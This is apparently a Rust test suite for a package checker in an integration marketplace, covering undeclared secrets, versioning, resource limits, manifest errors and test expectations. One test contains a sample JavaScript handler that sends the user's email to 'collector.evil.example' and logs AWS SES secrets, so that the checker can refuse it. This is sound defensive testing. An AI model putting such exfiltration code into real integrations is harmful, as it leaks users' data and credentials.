//! The checks over the reference package and over packages each broken in one way.

use actionflow_marketplace::{
    check_package, History, Manifest, MarketplaceLimits, Package, PackageLimits, Report, Version,
};

use crate::{limits, runtime, ses_esm_package, ses_package};

async fn check(package: &Package, history: &History) -> Report {
    check_package(
        &runtime(),
        package,
        &PackageLimits::default(),
        history,
        &limits(),
        None,
    )
    .await
}

fn edit_manifest(package: &mut Package, edit: impl FnOnce(&mut serde_json::Value)) {
    let mut manifest: serde_json::Value =
        serde_json::from_slice(package.file("integration.json").expect("a manifest"))
            .expect("JSON");
    edit(&mut manifest);
    package.files.insert(
        "integration.json".into(),
        serde_json::to_vec_pretty(&manifest).expect("JSON"),
    );
}

fn set_code(package: &mut Package, code: &str) {
    package
        .files
        .insert("integration.action.js".into(), code.as_bytes().to_vec());
}

#[tokio::test]
async fn the_reference_package_passes_with_its_tests_run() {
    let report = check(&ses_package(), &History::default()).await;
    assert!(!report.has_errors(), "{}", report.to_text());
}

#[tokio::test]
async fn an_undeclared_secret_read_is_an_error_at_its_line() {
    let mut package = ses_package();
    let code = package.text("integration.action.js").unwrap().replace(
        "secret: event.secrets.AWS_SES_SECRET,",
        "secret: event.secrets.AWS_SES_SECRET + (event.secrets.EXTRA ?? \"\"),",
    );
    set_code(&mut package, &code);
    let report = check(&package, &History::default()).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.code == "secret_not_declared")
        .expect("flagged");
    assert_eq!(finding.file.as_deref(), Some("integration.action.js"));
    assert_eq!(finding.line, Some(11), "{}", report.to_text());
    assert!(finding.message.contains("event.secrets.EXTRA"));
}

#[tokio::test]
async fn a_configuration_field_named_like_a_secret_is_an_error() {
    let mut package = ses_package();
    edit_manifest(&mut package, |m| {
        m["configuration"]
            .as_array_mut()
            .unwrap()
            .push(serde_json::json!({
            "name": "API_TOKEN", "label": "Token", "required": false, "type": "string"}));
    });
    let report = check(&package, &History::default()).await;
    assert!(
        report.has("configuration_looks_secret"),
        "{}",
        report.to_text()
    );
    // Declared and never read: a warning for the reviewer.
    assert!(report.has("configuration_not_read"));
}

#[tokio::test]
async fn a_breaking_change_needs_a_major_version() {
    let previous = Manifest::parse(ses_package().file("integration.json").unwrap()).unwrap();
    let history = History {
        versions: vec![Version::parse("1.0.0").unwrap()],
        latest_published: Some(previous),
    };
    let mut package = ses_package();
    let new_required = |m: &mut serde_json::Value| {
        m["configuration"]
            .as_array_mut()
            .unwrap()
            .push(serde_json::json!({
            "name": "REPLY_TO", "label": "Reply to", "required": true, "type": "string"}));
    };
    edit_manifest(&mut package, |m| {
        m["version"] = "1.1.0".into();
        new_required(m);
    });
    let report = check(&package, &history).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.code == "breaking_change")
        .expect("flagged");
    assert!(
        finding
            .message
            .contains("new required configuration REPLY_TO"),
        "{finding:?}"
    );
    edit_manifest(&mut package, |m| m["version"] = "2.0.0".into());
    let report = check(&package, &history).await;
    assert!(!report.has("breaking_change"), "{}", report.to_text());
}

#[tokio::test]
async fn a_reused_or_lower_version_is_refused() {
    let history = History {
        versions: vec![
            Version::parse("1.0.0").unwrap(),
            Version::parse("1.2.0").unwrap(),
        ],
        latest_published: None,
    };
    let report = check(&ses_package(), &history).await;
    assert!(report.has("version_reused"), "{}", report.to_text());
    let mut package = ses_package();
    edit_manifest(&mut package, |m| m["version"] = "1.1.0".into());
    assert!(check(&package, &history).await.has("version_not_higher"));
}

#[tokio::test]
async fn a_test_that_loops_forever_fails_within_the_limits() {
    let mut package = ses_package();
    let code = package.text("integration.action.js").unwrap().replace(
        "const { username, email } = event.user;",
        "while (true) {}\n  const { username, email } = event.user;",
    );
    set_code(&mut package, &code);
    let started = std::time::Instant::now();
    let report = check(&package, &History::default()).await;
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    let failed: Vec<_> = report
        .findings
        .iter()
        .filter(|f| f.code == "test_failed")
        .collect();
    assert!(
        failed
            .iter()
            .any(|f| f.message.contains("cpu_limit") || f.message.contains("timed_out")),
        "{}",
        report.to_text()
    );
    assert!(report.has("no_success_test"));
}

#[tokio::test]
async fn fetching_a_host_outside_network_hosts_is_refused() {
    let mut package = ses_package();
    let code = "exports.onExecutePostUserRegistration = async (event) => {\n\
                  const res = await fetch(\"https://collector.evil.example/x?u=\" + event.user.email);\n\
                  console.log(\"sent\", res.status, event.secrets.AWS_SES_KEY, event.secrets.AWS_SES_SECRET,\n\
                    event.configuration.FROM_ADDRESS, event.configuration.TO_ADDRESS,\n\
                    event.configuration.AWS_REGION, event.configuration.SES_ENDPOINT);\n\
                };\n";
    set_code(&mut package, code);
    let test = serde_json::json!({
        "event": {"user": {"user_id": "u1", "email": "a@example.com"}},
        "fixtures": [{"request": {"method": "GET", "url": "https://collector.evil.example/x?u=a@example.com"},
                      "response": {"status": 200, "body": "ok"}}],
    });
    package.files.retain(|path, _| !path.starts_with("tests/"));
    package
        .files
        .insert("tests/leak.json".into(), serde_json::to_vec(&test).unwrap());
    let report = check(&package, &History::default()).await;
    assert!(report.has("host_not_declared"), "{}", report.to_text());
    // The wrapper refuses the request itself, so the run fails too.
    assert!(report.has("test_failed"), "{}", report.to_text());
}

#[tokio::test]
async fn missing_files_are_reported() {
    let mut package = ses_package();
    package.files.remove("logo.png");
    package.files.retain(|path, _| !path.starts_with("tests/"));
    let report = check(&package, &History::default()).await;
    for code in ["file_missing", "tests_missing"] {
        assert!(report.has(code), "{code}: {}", report.to_text());
    }
}

/// The reference package written as an ES module: the same checks, its tests run in the runtime
/// (the SES double answers its `import ses from "actionflow:ses"`).
#[tokio::test]
async fn the_es_module_reference_package_passes_with_its_tests_run() {
    let package = ses_esm_package();
    let report = check(&package, &History::default()).await;
    assert!(!report.has_errors(), "{}", report.to_text());
    assert!(!report.has("secret_not_read"), "{}", report.to_text());
    // The reads scan works on the module's text: an undeclared read is found at its line.
    let mut package = ses_esm_package();
    let code = package.text("integration.action.js").unwrap().replace(
        "secret: event.secrets.AWS_SES_SECRET,",
        "secret: event.secrets.AWS_SES_SECRET + (event.secrets.EXTRA ?? \"\"),",
    );
    set_code(&mut package, &code);
    let report = check(&package, &History::default()).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.code == "secret_not_declared")
        .expect("flagged");
    assert_eq!(finding.line, Some(10), "{}", report.to_text());
}

#[tokio::test]
async fn an_es_module_re_export_is_an_error_at_its_line() {
    let mut package = ses_esm_package();
    let code = package
        .text("integration.action.js")
        .unwrap()
        .replace(
            "import ses from \"actionflow:ses\";",
            "import ses from \"actionflow:ses\"; export * from \"node-ses\";",
        )
        .replace(
            "function escape(s) {",
            "export { escape as default } from \"./helpers.js\";\nfunction escape(s) {",
        );
    set_code(&mut package, &code);
    let report = check(&package, &History::default()).await;
    let lines: Vec<Option<u32>> = report
        .findings
        .iter()
        .filter(|f| f.code == "esm_reexport")
        .map(|f| f.line)
        .collect();
    assert_eq!(lines, [Some(5), Some(26)], "{}", report.to_text());
    assert!(report.findings.iter().all(|f| f.code != "test_failed"));
}

#[tokio::test]
async fn an_es_module_that_does_not_parse_is_reported_at_its_line() {
    let mut package = ses_esm_package();
    let code = package
        .text("integration.action.js")
        .unwrap()
        .replace("const who =", "const who = ;");
    set_code(&mut package, &code);
    let report = check(&package, &History::default()).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.code == "code_invalid")
        .expect("flagged");
    assert_eq!(finding.line, Some(15), "{}", report.to_text());
}

#[tokio::test]
async fn code_without_the_handler_does_not_load() {
    let mut package = ses_package();
    set_code(
        &mut package,
        "exports.onExecutePostLogin = async () => {};\n",
    );
    let report = check(&package, &History::default()).await;
    assert!(report.has("code_invalid"), "{}", report.to_text());
}

#[tokio::test]
async fn every_scaffold_passes_its_own_checks() {
    for trigger in actionflow_runtime::TRIGGERS {
        let package =
            actionflow_marketplace::scaffold::scaffold(trigger.id, "my-integration", "acme-labs")
                .expect("a known trigger");
        let report = check(&package, &History::default()).await;
        assert!(!report.has_errors(), "{}: {}", trigger.id, report.to_text());
    }
}

#[tokio::test]
async fn a_test_event_the_trigger_would_never_send_fails() {
    let mut package = ses_package();
    let test = serde_json::json!({"event": {"user": {"email": 42}}, "expect": {"status": "threw"}});
    package.files.insert(
        "tests/odd.json".into(),
        serde_json::to_vec(&test).expect("JSON"),
    );
    let report = check(&package, &History::default()).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.file.as_deref() == Some("tests/odd.json"))
        .expect("flagged");
    assert!(
        finding
            .message
            .contains("not a post-user-registration event"),
        "{finding:?}"
    );
}

#[tokio::test]
async fn more_tests_than_the_limit_are_refused_without_running_them() {
    let mut package = ses_package();
    let test = package
        .file("tests/sends-welcome-email.json")
        .expect("a test")
        .to_vec();
    for i in 0..PackageLimits::default().tests_max {
        package
            .files
            .insert(format!("tests/copy-{i}.json"), test.clone());
    }
    let report = check(&package, &History::default()).await;
    assert!(report.has("too_many_tests"), "{}", report.to_text());
    assert!(!report.has("test_failed"));
}

/// The manifest's `manifest_invalid` findings each name the field at fault.
#[tokio::test]
async fn manifest_schema_errors_name_their_field() {
    let extra = |field: serde_json::Value| {
        move |m: &mut serde_json::Value| m["configuration"].as_array_mut().unwrap().push(field)
    };
    type Edit = Box<dyn FnOnce(&mut serde_json::Value)>;
    let cases: Vec<(Edit, &str)> = vec![
        (
            Box::new(extra(serde_json::json!({
                "name": "reply_to", "label": "Reply to", "required": false, "type": "string"}))),
            "configuration[4].name: \"reply_to\" is not ALL_CAPS_SNAKE_CASE",
        ),
        (
            Box::new(|m: &mut serde_json::Value| m["secrets"][0]["name"] = "aws_ses_key".into()),
            "secrets[0].name: \"aws_ses_key\" is not ALL_CAPS_SNAKE_CASE",
        ),
        (
            Box::new(extra(serde_json::json!({
                "name": "MODE", "label": "Mode", "required": false, "type": "enum"}))),
            "configuration[4].options: an enum needs options",
        ),
        (
            Box::new(|m: &mut serde_json::Value| {
                m["dependencies"] = serde_json::json!([{"name": "greeting", "version": "^1.0.0"}])
            }),
            "dependencies[0].version: pin greeting to an exact version x.y.z, not \"^1.0.0\"",
        ),
    ];
    for (edit, message) in cases {
        let mut package = ses_package();
        edit_manifest(&mut package, edit);
        let report = check(&package, &History::default()).await;
        let found: Vec<&str> = report
            .findings
            .iter()
            .filter(|f| f.code == "manifest_invalid")
            .map(|f| f.message.as_str())
            .collect();
        assert_eq!(found, [message], "{}", report.to_text());
    }
}

/// With a default server's limits: code over the package's code limit is refused before it runs;
/// code at the limit still fits the runtime's limit once wrapped, and passes.
#[tokio::test]
async fn code_over_the_limit_is_refused_without_running_it() {
    let limits = &MarketplaceLimits::default();
    let check = |package: Package| async move {
        check_package(
            &runtime(),
            &package,
            &limits.package,
            &History::default(),
            &limits.execution,
            None,
        )
        .await
    };
    let code_max = limits.package.code_bytes_max;
    let code = ses_package()
        .text("integration.action.js")
        .unwrap()
        .to_owned();
    let padded = |total: usize| {
        let mut package = ses_package();
        let padding = "x".repeat(total - code.len() - 4);
        set_code(&mut package, &format!("{code}// {padding}\n"));
        assert_eq!(package.file("integration.action.js").unwrap().len(), total);
        package
    };
    let report = check(padded(code_max + 1)).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.code == "code_too_large")
        .expect("flagged");
    assert_eq!(finding.file.as_deref(), Some("integration.action.js"));
    assert!(!report.has("test_failed"), "{}", report.to_text());
    let report = check(padded(code_max)).await;
    assert!(!report.has_errors(), "{}", report.to_text());
}

#[tokio::test]
async fn the_logo_must_be_a_png_within_its_limit() {
    let limits = PackageLimits::default();
    let png = ses_package().file("logo.png").unwrap().to_vec();
    let mut large = png.clone();
    large.resize(limits.logo_bytes_max + 1, 0);
    let cases = [
        (large, vec!["logo_too_large"]),
        (b"GIF89a\x01\x00\x01\x00".to_vec(), vec!["logo_not_png"]),
    ];
    for (logo, codes) in cases {
        let mut package = ses_package();
        package.files.insert("logo.png".into(), logo);
        let report = check(&package, &History::default()).await;
        let found: Vec<&str> = report.errors().map(|f| f.code.as_str()).collect();
        assert_eq!(found, codes, "{}", report.to_text());
        assert!(report
            .errors()
            .all(|f| f.file.as_deref() == Some("logo.png")));
    }
}

/// Against the latest published version: removing a field or a supported trigger is a breaking
/// change, allowed only with a new major version.
#[tokio::test]
async fn removing_a_field_or_a_trigger_needs_a_major_version() {
    let current = || Manifest::parse(ses_package().file("integration.json").unwrap()).unwrap();
    let mut with_field = current();
    with_field.configuration.push(
        serde_json::from_value(serde_json::json!({
            "name": "REPLY_TO", "label": "Reply to", "required": false, "type": "string"}))
        .unwrap(),
    );
    let mut with_trigger = current();
    with_trigger.supported_triggers.push("post-login".into());
    for (previous, change) in [
        (with_field, "configuration REPLY_TO removed"),
        (with_trigger, "trigger post-login removed"),
    ] {
        let history = History {
            versions: vec![Version::parse("1.0.0").unwrap()],
            latest_published: Some(previous),
        };
        let mut package = ses_package();
        edit_manifest(&mut package, |m| m["version"] = "1.1.0".into());
        let report = check(&package, &history).await;
        let found: Vec<&str> = report
            .findings
            .iter()
            .filter(|f| f.code == "breaking_change")
            .map(|f| f.message.as_str())
            .collect();
        assert_eq!(
            found,
            [format!(
                "{change} since 1.0.0: a breaking change needs a new major version"
            )],
            "{}",
            report.to_text()
        );
        edit_manifest(&mut package, |m| m["version"] = "2.0.0".into());
        let report = check(&package, &history).await;
        assert!(!report.has_errors(), "{}", report.to_text());
    }
}

/// A post-login package whose code denies the user `blocked` and gives anyone else a claim,
/// with `tests` as its tests.
fn deny_package(tests: &[(&str, serde_json::Value)]) -> Package {
    let mut package =
        actionflow_marketplace::scaffold::scaffold("post-login", "gatekeeper", "acme-labs")
            .expect("a known trigger");
    set_code(
        &mut package,
        "exports.onExecutePostLogin = async (event, api) => {\n\
           if (event.user.user_id === \"blocked\") {\n\
             api.access.deny(`${event.configuration.GREETING}, not you`);\n\
             return;\n\
           }\n\
           api.accessToken.setCustomClaim(\"key_length\", event.secrets.API_KEY.length);\n\
         };\n",
    );
    package.files.retain(|path, _| !path.starts_with("tests/"));
    for (name, expect) in tests {
        let user = if name.starts_with("denies") {
            "blocked"
        } else {
            "u1"
        };
        let test = serde_json::json!({
            "name": name,
            "event": {"user": {"user_id": user}, "client": {"client_id": "web"}},
            "secrets": {"API_KEY": "test-key"},
            "configuration": {"GREETING": "hi"},
            "expect": expect,
        });
        package.files.insert(
            format!("tests/{name}.json"),
            serde_json::to_vec(&test).expect("JSON"),
        );
    }
    package
}

#[tokio::test]
async fn tests_expect_api_calls_and_denials() {
    let passing = deny_package(&[
        (
            "claims",
            serde_json::json!({"api_calls": [
                {"method": "accessToken.setCustomClaim", "args": ["key_length", 8]}],
                "denied": false}),
        ),
        (
            "denies-blocked",
            serde_json::json!({"denied": true, "api_calls": [
                {"method": "access.deny", "args": ["hi, not you"]}]}),
        ),
        // Without args, only the method is compared.
        (
            "denies-any-reason",
            serde_json::json!({"api_calls": [{"method": "access.deny"}]}),
        ),
    ]);
    let report = check(&passing, &History::default()).await;
    assert!(!report.has_errors(), "{}", report.to_text());

    let failing = deny_package(&[
        (
            "claims",
            serde_json::json!({"api_calls": [
                {"method": "accessToken.setCustomClaim", "args": ["key_length", 9]}]}),
        ),
        ("denies-blocked", serde_json::json!({"denied": false})),
        ("claims-extra", serde_json::json!({"denied": true})),
    ]);
    let report = check(&failing, &History::default()).await;
    let failed = |file: &str| -> String {
        report
            .findings
            .iter()
            .filter(|f| f.code == "test_failed" && f.file.as_deref() == Some(file))
            .map(|f| f.message.clone())
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert!(
        failed("tests/claims.json").contains(
            "expected the api calls [\"accessToken.setCustomClaim\"], got [\"accessToken.setCustomClaim\"] (or other arguments)"
        ),
        "{}",
        report.to_text()
    );
    assert!(
        failed("tests/denies-blocked.json").contains("expected denied = false, got true"),
        "{}",
        report.to_text()
    );
    assert!(
        failed("tests/claims-extra.json").contains("expected denied = true, got false"),
        "{}",
        report.to_text()
    );
    // None of them passed on a success path.
    assert!(report.has("no_success_test"), "{}", report.to_text());
}

/// A test's configuration is text, as an installed copy's is: a number is refused, naming the
/// test.
#[tokio::test]
async fn a_test_configuration_value_is_text() {
    let mut package = ses_package();
    let mut test: serde_json::Value =
        serde_json::from_slice(package.file("tests/sends-welcome-email.json").unwrap()).unwrap();
    test["configuration"]["AWS_REGION"] = serde_json::json!(1);
    package.files.insert(
        "tests/sends-welcome-email.json".into(),
        serde_json::to_vec(&test).unwrap(),
    );
    let report = check(&package, &History::default()).await;
    let finding = report
        .findings
        .iter()
        .find(|f| f.code == "test_invalid")
        .expect("flagged");
    assert_eq!(
        finding.file.as_deref(),
        Some("tests/sends-welcome-email.json")
    );
    assert!(
        finding.message.contains("expected a string"),
        "{}",
        report.to_text()
    );
}
